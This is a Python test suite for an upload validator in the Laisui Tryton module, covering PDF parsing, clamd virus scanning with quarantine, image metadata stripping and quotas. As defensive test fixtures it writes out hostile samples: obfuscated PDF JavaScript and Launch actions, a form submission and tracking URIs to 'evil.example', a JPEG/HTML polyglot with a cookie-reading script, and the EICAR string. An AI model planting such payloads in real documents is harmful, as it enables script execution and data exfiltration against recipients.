# This file is part of Laisui.  The COPYRIGHT file at the top level of
# this repository contains the full copyright notices and license terms.
"""Evidence upload checks: PDFs parsed with pypdf, a real clamd scan with
quarantine, images re-encoded, the per-applicant quota."""
import io
from unittest import mock

from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, TextStringObject

from trytond.modules.laisui_base import pdf
from trytond.modules.laisui_base import upload as upload_module
from trytond.modules.laisui_base.exceptions import (
    UploadError, UploadInfectedError, UploadQuotaError, UploadScanError)
from trytond.modules.laisui_base.tests import clamd as test_clamd
from trytond.modules.laisui_base.tests.clamd import (
    EICAR, SIGNATURE, ClamdMixin, upload_config)
from trytond.modules.laisui_base.tests.pdfs import (
    action, add_annotation, annotation, name, raw_open_action, raw_pdf,
    set_contents, writer_pdf)
from trytond.modules.laisui_base.tests.tools import (
    ActivatedTestCase, png_bytes)
from trytond.modules.laisui_base.upload import (
    MAX_SIZE, check_quota, validate_upload)
from trytond.pool import Pool
from trytond.tests.test_tryton import DB_NAME, with_transaction
from trytond.transaction import Transaction

ACTIVE = '含有脚本'
HTML = b'<html><body><script>alert(document.cookie)</script></body></html>'


def jpeg_bytes(size=(64, 48), **options):
    buffer = io.BytesIO()
    Image.new('RGB', size, 'blue').save(buffer, 'JPEG', **options)
    return buffer.getvalue()


def exif_bytes(orientation=None):
    exif = Image.Exif()
    exif[0x010F] = "Laisui Phone"       # Make
    exif[0x0110] = "Model X"            # Model
    exif[0x0131] = "secret-editor 1.0"  # Software
    if orientation:
        exif[0x0112] = orientation
    return exif.tobytes()


def jpeg_html_polyglot():
    "A JPEG that is also an HTML page: in a comment and after the image"
    image = jpeg_bytes()
    comment = b'\xff\xfe' + (len(HTML) + 2).to_bytes(2, 'big') + HTML
    return image[:2] + comment + image[2:] + HTML


def _with_root(**entries):
    def build(writer):
        for key, value in entries.items():
            writer._root_object[name('/' + key)] = value
    return build


def _javascript_names(writer):
    tree = DictionaryObject({name('/Names'): ArrayObject([
                    TextStringObject('x'),
                    writer._add_object(
                        action('/JavaScript', JS='app.alert(1)')),
                    ])})
    writer._root_object[name('/Names')] = DictionaryObject(
        {name('/JavaScript'): writer._add_object(tree)})


def _attachment(writer):
    writer.add_attachment('invoice.exe', b'MZ\x90\x00 not really a program')


def _submit_form(writer):
    add_annotation(writer, annotation('/Widget', FT=name('/Btn'),
            A=action('/SubmitForm', F='https://evil.example/collect')))


def _page_open_uri(writer):
    writer.pages[0][name('/AA')] = DictionaryObject({
            name('/O'): action('/URI', URI='https://evil.example/track')})


def _link(writer):
    add_annotation(writer, annotation('/Link',
            A=action('/URI', URI='https://www.gz.gov.cn/')))


def _open_at_first_page(writer):
    writer._root_object[name('/OpenAction')] = ArrayObject(
        [writer.pages[0].indirect_reference, name('/Fit')])


def _xfa(writer):
    writer._root_object[name('/AcroForm')] = DictionaryObject({
            name('/Fields'): ArrayObject(),
            name('/XFA'): TextStringObject('<xdp:xdp/>')})


def _encrypt(writer):
    writer.encrypt(user_password='', owner_password='owner',
        algorithm='RC4-128')


def _eicar_page(writer):
    set_contents(writer, b'BT /F1 12 Tf 72 720 Td (' + EICAR + b') Tj ET')


class UploadTestCase(ClamdMixin, ActivatedTestCase):
    "Upload validation"
    modules = ['laisui_base']

    def assertRefused(self, data, text, error=UploadError):
        with self.assertRaises(error) as cm:
            validate_upload(data)
        self.assertIn(text, cm.exception.message)
        return cm.exception

    def assertPdfRefused(self, data, text):
        """Refused by the PDF check itself: without the scan, as clamd's
        heuristics quarantine some (Heuristics.PDF.ObfuscatedNameObject)"""
        with upload_config(scan='off'):
            self.assertRefused(data, text)

    # PDF -----------------------------------------------------------------
    @with_transaction()
    def test_upload_pdf_accepted(self):
        "A plain PDF, with a link and opening at its first page, is taken"
        for build in [None, _link, _open_at_first_page]:
            with self.subTest(build=build):
                data = writer_pdf(build)
                upload = validate_upload(data)
                self.assertEqual(upload.mime_type, 'application/pdf')
                self.assertRegex(upload.filename, r'^[0-9a-f]{32}\.pdf$')
                self.assertEqual(upload.data, data)

    @with_transaction()
    def test_upload_pdf_active(self):
        "Scripts, actions and embedded files are found by parsing"
        cases = {
            'escaped /J#61vaScript': raw_open_action(
                b'<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
            'escaped /L#61unch': raw_open_action(
                b'<< /S /L#61unch /F (C:\\\\Windows\\\\calc.exe) >>'),
            'JavaScript in a compressed object stream': raw_open_action(
                b'<< /S /JavaScript /JS (app.alert(1)) >>', compressed=True),
            'JavaScript in an object nothing refers to': raw_pdf({
                    1: b'<< /Type /Catalog /Pages 2 0 R >>',
                    2: b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
                    3: b'<< /Type /Page /Parent 2 0 R '
                    b'/MediaBox [0 0 595 842] >>',
                    4: b'<< /S /JavaScript /JS (app.alert(1)) >>',
                    }, compressed=(4,)),
            'document JavaScript in /Names': writer_pdf(_javascript_names),
            'embedded file': writer_pdf(_attachment),
            '/SubmitForm': writer_pdf(_submit_form),
            '/OpenAction /URI': writer_pdf(_with_root(
                    OpenAction=action('/URI', URI='https://evil.example/'))),
            'page /AA /URI': writer_pdf(_page_open_uri),
            '/ImportData': writer_pdf(_with_root(
                    OpenAction=action('/ImportData', F='data.fdf'))),
            '/GoToR': writer_pdf(_with_root(OpenAction=action(
                        '/GoToR', F='\\\\evil\\share\\x.pdf',
                        D=ArrayObject([name('/Fit')])))),
            'XFA form': writer_pdf(_xfa),
            }
        for label, data in cases.items():
            with self.subTest(label):
                self.assertPdfRefused(data, ACTIVE)

    @with_transaction()
    def test_upload_pdf_escaped_names_missed_by_a_byte_search(self):
        "The inputs above that no byte pattern of the old check found"
        import re
        old = re.compile(rb'/(JavaScript|JS|Launch|EmbeddedFile|RichMedia)\b')
        for data in [
                raw_open_action(b'<< /S /J#61vaScript /J#53 (x) >>'),
                raw_open_action(b'<< /S /L#61unch /F (x) >>'),
                raw_open_action(b'<< /S /JavaScript /JS (x) >>',
                    compressed=True),
                writer_pdf(_submit_form),
                ]:
            self.assertIsNone(old.search(data))
            self.assertPdfRefused(data, ACTIVE)

    @with_transaction()
    def test_upload_pdf_encrypted(self):
        self.assertPdfRefused(writer_pdf(_encrypt), '已加密')

    @with_transaction()
    def test_upload_pdf_unreadable(self):
        for data in [
                b'%PDF-1.4\n/OpenAction << /JavaScript (app.alert(1)) >>'
                b'\n%%EOF',
                b'%PDF-1.7\n' + b'\x00' * 100,
                writer_pdf()[:300],
                ]:
            with self.subTest(data=data[:20]):
                self.assertPdfRefused(data, '无法读取该 PDF')

    @with_transaction()
    def test_upload_pdf_too_complex(self):
        "The inspection is bounded in objects (and time)"
        with mock.patch.object(pdf, 'MAX_OBJECTS', 5):
            self.assertPdfRefused(writer_pdf(pages=3), '结构过于复杂')
        with mock.patch.object(pdf, 'MAX_SECONDS', -1):
            self.assertPdfRefused(writer_pdf(pages=200), '结构过于复杂')

    @with_transaction()
    def test_upload_pdf_pages(self):
        self.assertPdfRefused(writer_pdf(pages=201), '超过 200 页')
        validate_upload(writer_pdf(pages=200))

    # Virus scan ------------------------------------------------------------
    def test_upload_eicar_quarantined(self):
        "EICAR, as a file and inside a PDF, is quarantined by clamd"
        pdf = writer_pdf(_eicar_page)
        for label, data in [('plain file', EICAR), ('PDF', pdf)]:
            with self.subTest(label):
                resource = f'laisui.test,{label}'
                with self.assertRaises(UploadInfectedError) as cm:
                    with Transaction().start(DB_NAME, 0):
                        validate_upload(data, resource=resource)
                self.assertIn('未通过病毒扫描，已被隔离', cm.exception.message)
                # Recorded once the transaction is over, even rolled back.
                with Transaction().start(DB_NAME, 0):
                    AuditLog = Pool().get('laisui.audit.log')
                    entry, = AuditLog.search([
                            ('action', '=', 'quarantine'),
                            ('resource', '=', resource)])
                    self.assertIn(f'size={len(data)}', entry.detail)
                    self.assertIn(f'signature={SIGNATURE}', entry.detail)
                    self.assertIn('sha256=', entry.detail)
                    self.assertFalse(entry.success)
                    self.assertTrue(entry.timestamp)
        # Only the scan refuses the PDF: without it the PDF is plain.
        with upload_config(scan='off'), Transaction().start(DB_NAME, 0):
            validate_upload(pdf)

    @with_transaction()
    def test_upload_clean_file_scanned(self):
        self.assertTrue(test_clamd.daemon().process.poll() is None)
        self.assertEqual(validate_upload(png_bytes()).mime_type, 'image/png')

    @with_transaction()
    def test_upload_clamd_down(self):
        "scan = required and no clamd: refused (fail closed)"
        with upload_config(clamd_socket=self.clamd.folder + '/missing.sock'):
            self.assertRefused(png_bytes(), '病毒扫描服务暂不可用',
                UploadScanError)
            with upload_config(scan='off'):
                validate_upload(png_bytes())

    @with_transaction()
    def test_upload_clamd_tcp_down(self):
        with upload_config(clamd_host='127.0.0.1', clamd_port='9'):
            self.assertRefused(png_bytes(), '病毒扫描服务暂不可用',
                UploadScanError)

    # Images ----------------------------------------------------------------
    @with_transaction()
    def test_upload_jpeg_exif_stripped(self):
        data = jpeg_bytes(exif=exif_bytes())
        self.assertIn(b'Laisui Phone', data)
        upload = validate_upload(data)
        self.assertEqual(upload.mime_type, 'image/jpeg')
        self.assertNotIn(b'Exif', upload.data)
        self.assertNotIn(b'Laisui Phone', upload.data)
        with Image.open(io.BytesIO(upload.data)) as image:
            self.assertEqual(image.format, 'JPEG')
            self.assertEqual(image.size, (64, 48))
            self.assertEqual(dict(image.getexif()), {})

    @with_transaction()
    def test_upload_jpeg_orientation_applied(self):
        "The EXIF rotation is applied before EXIF goes"
        upload = validate_upload(jpeg_bytes(exif=exif_bytes(orientation=6)))
        with Image.open(io.BytesIO(upload.data)) as image:
            self.assertEqual(image.size, (48, 64))

    @with_transaction()
    def test_upload_jpeg_html_polyglot(self):
        data = jpeg_html_polyglot()
        with Image.open(io.BytesIO(data)) as image:
            image.load()  # A valid JPEG, not refused as corrupt.
        self.assertIn(b'<script', data)
        upload = validate_upload(data)
        for marker in [b'<html', b'<script', b'alert(']:
            self.assertNotIn(marker, upload.data.lower())
        with Image.open(io.BytesIO(upload.data)) as image:
            self.assertEqual(image.size, (64, 48))

    @with_transaction()
    def test_upload_png_text_stripped(self):
        from PIL import PngImagePlugin
        info = PngImagePlugin.PngInfo()
        info.add_text('Comment', '<script>alert(1)</script>')
        buffer = io.BytesIO()
        Image.new('P', (8, 8)).save(buffer, 'PNG', pnginfo=info,
            transparency=0)
        upload = validate_upload(buffer.getvalue())
        self.assertNotIn(b'<script', upload.data)
        with Image.open(io.BytesIO(upload.data)) as image:
            self.assertEqual(image.mode, 'P')
            self.assertEqual(image.info.get('transparency'), 0)

    @with_transaction()
    def test_upload_refused_content(self):
        "Content decides, never the name"
        for data, text in [
                (b'<html><script>alert(1)</script></html>', '仅支持'),
                (b'<?php echo 1; ?>', '仅支持'),
                (b'<svg xmlns="http://www.w3.org/2000/svg"/>', '仅支持'),
                (b'', '文件为空'),
                (b'\x89PNG\r\n\x1a\nnot really a png', '已损坏'),
                (b'\xff\xd8\xff' + b'0' * (MAX_SIZE + 1), '超过 20 MB'),
                ]:
            with self.subTest(data=data[:20]):
                self.assertRefused(data, text)
        upload = validate_upload(png_bytes())
        self.assertEqual(upload.mime_type, 'image/png')
        self.assertRegex(upload.filename, r'^[0-9a-f]{32}\.png$')

    # Quota -----------------------------------------------------------------
    @with_transaction()
    def test_upload_quota(self):
        with upload_config(quota_count=3, quota_size=3 * 1024 * 1024):
            check_quota(2, 0, 1, 10)
            with self.assertRaises(UploadQuotaError) as cm:
                check_quota(3, 0, 1, 10)
            self.assertIn('已达 3 个的上限', cm.exception.message)
            with self.assertRaises(UploadQuotaError) as cm:
                check_quota(1, 3 * 1024 * 1024 - 5, 1, 10)
            self.assertIn('超过 3 MB', cm.exception.message)
        self.assertEqual(upload_module.quota(), (
                upload_module.DEFAULT_QUOTA_COUNT,
                upload_module.DEFAULT_QUOTA_SIZE))
